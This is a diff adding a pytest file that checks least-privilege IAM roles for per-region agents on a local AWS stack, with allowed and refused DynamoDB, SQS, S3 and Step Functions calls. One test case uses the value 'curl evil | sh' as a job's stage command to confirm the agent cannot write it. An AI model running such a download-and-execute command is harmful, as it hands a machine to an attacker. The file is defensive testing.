@@ -1,0 +1,163 @@
+"""Each region affinity's agent role (template.yaml, AgentPolicy / AgentRole) allows what an agent
+does and refuses the rest, on the local stack with IAM enforcement on: the stack's agents run as
+sessions of it (stack.json agent_credentials).
+
+Who refuses what, locally:
+- moto's own IAM: actions of every service, and the SQS queue and S3 bucket a request names;
+- the local stack's DynamoDB authorization (cli/relevo_cli/local/dynamodb_authorization.py):
+  the table a request names and the `dynamodb:LeadingKeys` / `dynamodb:Attributes` conditions
+  that keep the agent to its item kinds and attributes.
+The same policy is linted offline against AWS's catalogue (tests/infrastructure/test_iam_lint.py).
+"""
+
+from __future__ import annotations
+
+import secrets
+from typing import Any
+
+import boto3
+import pytest
+from botocore.exceptions import ClientError
+
+from relevo_agent import permissions
+from relevo_agent.doctor import check_permissions
+from relevo_core.aws import client
+
+
+def _as_agent(stack, region: str, service: str) -> Any:
+    credentials = stack.agent_credentials[region]
+    return boto3.client(
+        service,
+        endpoint_url=stack.aws_endpoint,
+        region_name=stack.region,
+        aws_access_key_id=credentials.access_key_id,
+        aws_secret_access_key=credentials.secret_access_key,
+        aws_session_token=credentials.session_token,
+    )
+
+
+def _refused(call: Any) -> str:
+    with pytest.raises(ClientError) as refused:
+        call()
+    return refused.value.response["Error"]["Code"]
+
+
+def _put(table: str, pk: str, sk: str, **attributes: str) -> dict[str, Any]:
+    return {"TableName": table, "Item": {"pk": {"S": pk}, "sk": {"S": sk}, **{k: {"S": v} for k, v in attributes.items()}}}
+
+
+def test_an_agent_session_is_a_session_of_its_regions_agent_role(local_stack):
+    identity = _as_agent(local_stack, "eu-west", "sts").get_caller_identity()["Arn"]
+    role = local_stack.agent_roles["eu-west"] if local_stack.agent_roles else None
+    name = client("iam").get_role(RoleName=local_stack.resources["AgentRoleeuwest"])["Role"]["Arn"].rsplit("/", 1)[1]
+    assert f":assumed-role/{name}/relevo-agent-eu-west" in identity
+    assert role is None or role.endswith(f"/{name}")
+
+
+def test_what_an_agent_does_is_allowed(local_stack):
+    table, suffix = local_stack.table_name, secrets.token_hex(3)
+    dynamodb, sqs = _as_agent(local_stack, "eu-west", "dynamodb"), _as_agent(local_stack, "eu-west", "sqs")
+    sqs.receive_message(QueueUrl=local_stack.work_queues["eu-west"], WaitTimeSeconds=0)
+    dynamodb.get_item(TableName=table, Key={"pk": {"S": f"JOB#{suffix}"}, "sk": {"S": "STAGE#00"}})
+    dynamodb.put_item(**_put(table, f"LOGS#agent-role-{suffix}", "SEQ#000000000000", data="line"))
+    dynamodb.put_item(**_put(table, "AGENTS#eu-west", f"AGENT#agent-role-{suffix}", region="eu-west"))
+    stage = {"pk": {"S": f"JOB#agent-role-{suffix}"}, "sk": {"S": "STAGE#00"}}
+    with pytest.raises(ClientError) as raised:  # authorized; then its condition fails
+        dynamodb.update_item(
+            TableName=table, Key=stage, UpdateExpression="SET #s = :s, lease_expires_at = :l",
+            ConditionExpression="attribute_exists(pk)", ExpressionAttributeNames={"#s": "status"},
+            ExpressionAttributeValues={":s": {"S": "running"}, ":l": {"N": "1"}},
+        )
+    assert raised.value.response["Error"]["Code"] == "ConditionalCheckFailedException"
+
+
+@pytest.mark.parametrize(
+    "what, request_args, enforced_by",
+    [
+        ("a project's definition", lambda t, s: ("put_item", _put(t, f"PROJECT#p-{s}", "PROJECT")), "LeadingKeys"),
+        ("a grant", lambda t, s: ("put_item", _put(t, f"PROJECT#p-{s}", "GRANT#arn:aws:iam::123456789012:user/mallory", level="manage")), "LeadingKeys"),
+        ("a project lock", lambda t, s: ("put_item", _put(t, f"LOCK#p-{s}", "LOCK")), "LeadingKeys"),
+        ("a dedup record", lambda t, s: ("put_item", _put(t, f"DEDUP#p-{s}", "DEDUP")), "LeadingKeys"),
+        ("another region's presence", lambda t, s: ("put_item", _put(t, "AGENTS#us-east", f"AGENT#x-{s}")), "LeadingKeys"),
+        (
+            "a job's envelope (its stage commands)",
+            lambda t, s: ("update_item", {"TableName": t, "Key": {"pk": {"S": f"JOB#j-{s}"}, "sk": {"S": "JOB"}},
+                                          "UpdateExpression": "SET envelope = :e", "ExpressionAttributeValues": {":e": {"S": "curl evil | sh"}}}),
+            "Attributes",
+        ),
+        ("deleting a job", lambda t, s: ("delete_item", {"TableName": t, "Key": {"pk": {"S": f"JOB#j-{s}"}, "sk": {"S": "JOB"}}}), "action"),
+    ],
+)
+def test_an_agent_cannot_write_what_it_must_never_touch(local_stack, what, request_args, enforced_by):
+    operation, args = request_args(local_stack.table_name, secrets.token_hex(3))
+    dynamodb = _as_agent(local_stack, "eu-west", "dynamodb")
+    assert _refused(lambda: getattr(dynamodb, operation)(**args)) == "AccessDeniedException", what
+    # The stack's own administrator may (the refusal is the agent role's, not the table's).
+    getattr(client("dynamodb"), operation)(**args)
+
+
+def test_an_agent_cannot_take_another_regions_stages_use_another_bucket_or_start_jobs(local_stack):
+    sqs = _as_agent(local_stack, "eu-west", "sqs")
+    assert _refused(lambda: sqs.receive_message(QueueUrl=local_stack.work_queues["us-east"], WaitTimeSeconds=0)) == "AccessDenied"
+    assert _refused(lambda: sqs.send_message(QueueUrl=local_stack.work_queues["eu-west"], MessageBody="{}")) == "AccessDenied"
+    other = f"not-relevo-{secrets.token_hex(3)}"
+    client("s3").create_bucket(Bucket=other)
+    s3 = _as_agent(local_stack, "eu-west", "s3")
+    assert _refused(lambda: s3.put_object(Bucket=other, Key="x", Body=b"x")) == "AccessDenied"
+    s3.put_object(Bucket=local_stack.resources["ArtifactBucket"], Key=f"p/j-{other}/build/x", Body=b"x")
+    sfn = _as_agent(local_stack, "eu-west", "stepfunctions")
+    assert _refused(lambda: sfn.start_execution(stateMachineArn=local_stack.state_machine_arn, input="{}")) == "AccessDeniedException"
+    secrets_manager = _as_agent(local_stack, "eu-west", "secretsmanager")
+    assert _refused(lambda: secrets_manager.get_secret_value(SecretId=f"relevo/{local_stack.stack_name}/p/github")) == "AccessDeniedException"
+
+
+def _with_credentials(monkeypatch, stack, credentials) -> None:
+    from relevo_core.aws import reset_clients
+
+    monkeypatch.setenv("AWS_ACCESS_KEY_ID", credentials.access_key_id)
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", credentials.secret_access_key)
+    if credentials.session_token:
+        monkeypatch.setenv("AWS_SESSION_TOKEN", credentials.session_token)
+    else:
+        monkeypatch.delenv("AWS_SESSION_TOKEN", raising=False)
+    reset_clients()
+
+
+def test_doctor_finds_an_agents_credentials_fit_and_names_excess_and_missing_ones(local_stack, monkeypatch):
+    with monkeypatch.context() as agent:
+        _with_credentials(agent, local_stack, local_stack.agent_credentials["eu-west"])
+        fits = check_permissions(local_stack, "eu-west", None)
+    assert fits.ok, fits.words
+    assert "are allowed" in fits.words and "are refused" in fits.words
+
+    # The stack administrator's credentials can do far more than an agent should.
+    with monkeypatch.context() as admin:
+        _with_credentials(admin, local_stack, local_stack.local_credentials)
+        too_much = check_permissions(local_stack, "eu-west", None)
+    assert not too_much.ok
+    assert "these credentials can write project items (dynamodb:PutItem); an agent's should not" in too_much.words
+    assert "take us-east's stages" in too_much.words and "start executions" in too_much.words
+
+    # An agent of another region may not take this region's stages.
+    with monkeypatch.context() as other:
+        _with_credentials(other, local_stack, local_stack.agent_credentials["us-east"])
+        wrong_region = check_permissions(local_stack, "eu-west", None)
+    assert not wrong_region.ok
+    assert "missing: " in wrong_region.words and "hand stage messages back (sqs:ChangeMessageVisibility)" in wrong_region.words
+    assert "write presence in eu-west" in wrong_region.words
+
+
+def test_every_probe_of_doctor_is_harmless(local_stack, monkeypatch):
+    """Probes run with the administrator's credentials (everything allowed) write nothing."""
+    with monkeypatch.context() as admin:
+        _with_credentials(admin, local_stack, local_stack.local_credentials)
+        findings = [permissions.run(probe) for probe in permissions.probes(
+            local_stack.table_name, "eu-west", local_stack.work_queues["eu-west"],
+            {"us-east": local_stack.work_queues["us-east"]}, local_stack.resources["ArtifactBucket"], local_stack.state_machine_arn,
+        )]
+    assert all(finding.allowed for finding in findings), [(f.probe.what, f.why) for f in findings if not f.allowed]
+    probe = permissions.PROBE_ID
+    for pk, sk in [(f"JOB#{probe}", "STAGE#00"), (f"JOB#{probe}", "JOB"), (f"LOGS#{probe}", "SEQ#000000000000"), (f"ARTIFACTS#{probe}", "probe"),
+                   ("AGENTS#eu-west", f"AGENT#{probe}"), (f"PROJECT#{probe}", "PROJECT"), (f"PROJECT#{probe}", f"GRANT#{probe}"),
+                   (f"LOCK#{probe}", "LOCK"), (f"DEDUP#{probe}", "DEDUP")]:
+        assert "Item" not in client("dynamodb").get_item(TableName=local_stack.table_name, Key={"pk": {"S": pk}, "sk": {"S": sk}}), (pk, sk)
